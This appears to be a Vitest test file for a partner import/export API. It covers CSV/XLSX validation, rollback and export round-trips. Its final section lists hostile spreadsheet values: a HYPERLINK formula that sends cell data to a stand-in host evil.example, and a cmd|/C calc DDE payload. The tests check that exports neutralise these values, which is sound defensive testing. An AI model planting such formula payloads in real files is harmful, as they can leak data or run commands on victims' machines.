import fs from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Database } from '../../core/db.ts'
import { createTestDb } from '../../../tests/setup/db.ts'
import { createTestApp, type TestApp } from '../../../tests/setup/app.ts'
import { makePartner, makeUser } from '../../../tests/factories/index.ts'
import { oneRow } from '../../core/db-rows.ts'

let db: Database
let t: TestApp
let ops: Awaited<ReturnType<TestApp['login']>>
beforeAll(async () => {
  db = await createTestDb()
  t = createTestApp(db)
  ops = await t.login((await makeUser(db, 'partner_ops')).email)
})
afterAll(() => db.close())

const count = async () => oneRow(await db.owner.query<{ n: number }>('SELECT count(*)::int AS n FROM partners'), 'Count').n

function upload(name: string, data: string | Uint8Array, type = 'text/csv') {
  const form = new FormData()
  form.append('file', new File([data as BlobPart], name, { type }))
  return t.request('/api/partners/import', { method: 'POST', body: form, headers: ops.headers })
}

async function xlsx(rows: unknown[][]): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook()
  const ws = wb.addWorksheet('Partners')
  rows.forEach((r) => ws.addRow(r))
  return new Uint8Array(await wb.xlsx.writeBuffer())
}

describe('partner import', () => {
  it('imports nothing from a file with bad rows and reports every bad row and field', async () => {
    const before = await count()
    const csv = [
      'Legal Name,Type,Headquarters Country,Website,Countries',
      'Good One Inc,oem,US,https://good-one.example,US;CA',
      ',reseller,US,,',
      'Bad Country Ltd,service,QQ,,US;XX',
      'Dup Domain Inc,oem,US,https://good-one.example,',
    ].join('\n')
    const res = await upload('partners.csv', csv)
    expect(res.status).toBe(422)
    const body = await res.json()
    expect(body.code).toBe('IMPORT_INVALID')
    const found = body.errors.map((e: { row: number; path: string }) => `${e.row}:${e.path}`).sort()
    expect(found).toEqual(['3:legalName', '3:type', '4:countries.1', '4:headquartersCountry', '5:website'])
    expect(await count()).toBe(before)
  })

  it('reports unknown and missing columns', async () => {
    const res = await upload('p.csv', 'Name,Colour\nAcme,red\n')
    const errors = (await res.json()).errors.map((e: { path: string; message: string }) => `${e.path}: ${e.message}`)
    expect(errors).toEqual(expect.arrayContaining(['Colour: Unknown column', 'legalName: Missing column', 'type: Missing column']))
  })

  it('imports a valid XLSX file in one transaction', async () => {
    const before = await count()
    const data = await xlsx([
      ['legalName', 'type', 'headquartersCountry', 'aliases', 'tier'],
      ['Sheet One GmbH', 'both', 'DE', 'S1; SheetOne', 'select'],
      ['Sheet Two S.A.', 'service', 'fr', '', ''],
    ])
    const res = await upload('p.xlsx', data, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(await res.json()).toEqual({ imported: 2 })
    expect(await count()).toBe(before + 2)
    const [p] = (await (await ops.get('/api/partners?q=sheetone')).json()).items
    expect(p).toMatchObject({ legalName: 'Sheet One GmbH', aliases: ['S1', 'SheetOne'], tier: 'select' })
  })

  it('rolls back every row when one fails against the database', async () => {
    await makePartner(db, { website: 'https://taken.example' })
    const before = await count()
    const res = await upload(
      'p.csv',
      'legalName,type,headquartersCountry,website\nFine Co,oem,US,\nClash Co,oem,US,https://taken.example\n',
    )
    expect(res.status).toBe(422)
    expect((await res.json()).errors).toEqual([expect.objectContaining({ row: 3, path: 'website' })])
    expect(await count()).toBe(before)
  })

  it('refuses an unreadable spreadsheet and an unsupported file type', async () => {
    expect((await upload('p.xlsx', 'not a zip', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')).status).toBe(422)
    expect((await upload('p.pdf', '%PDF', 'application/pdf')).status).toBe(415)
  })
})

describe('partner export', () => {
  it('exports the filtered list as CSV and XLSX that import back', async () => {
    await makePartner(db, { legalName: 'Export Me Pty', headquartersCountry: 'AU', countries: ['AU', 'NZ'] })
    const csv = await ops.get('/api/partners/export?format=csv&country=AU')
    expect(csv.headers.get('content-type')).toContain('text/csv')
    const text = await csv.text()
    expect(text.split('\n')[0]).toContain('legalName,type,headquartersCountry')
    expect(text).toContain('Export Me Pty,oem,AU,,,AU; NZ')
    const x = await ops.get('/api/partners/export?format=xlsx&country=AU')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(await x.arrayBuffer())
    expect(wb.worksheets[0]?.getRow(2).getCell(1).value).toBe('Export Me Pty')
    // The exported file imports back once the partner is renamed (same columns, export-only ones ignored).
    const again = await upload('again.csv', text.replace('Export Me Pty', 'Export Me Again Pty'))
    expect(await again.json()).toEqual({ imported: 1 })
  })
})

describe('CSV formula injection (security 4)', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '\tTabbed =1+1',
    '\rReturned',
  ]

  it('exports names a spreadsheet would run as formulas with a leading quote, as plain text', async () => {
    for (const legalName of hostile) await makePartner(db, { legalName, headquartersCountry: 'FJ' })
    const text = await (await ops.get('/api/partners/export?format=csv&country=FJ')).text()
    const records = parse(text, { columns: true }) as { legalName: string }[]
    expect(records.map((r) => r.legalName).sort()).toEqual(hostile.map((h) => `'${h}`).sort())
  })

  it('keeps CSV writing in the one shared writer', () => {
    const root = path.resolve(import.meta.dirname, '../..')
    const writers: string[] = []
    for (const file of fs.readdirSync(root, { recursive: true, encoding: 'utf8' })) {
      if (!/\.tsx?$/.test(file) || file.includes('.test.') || file.startsWith('web')) continue
      const text = fs.readFileSync(path.join(root, file), 'utf8')
      if (/from 'csv-stringify|text\/csv;/.test(text)) writers.push(file.split(path.sep).join('/'))
    }
    // sheets.ts writes every CSV; api.ts only labels the download.
    expect(writers.sort()).toEqual(['core/sheets.ts', 'server/api.ts'])
  })
})
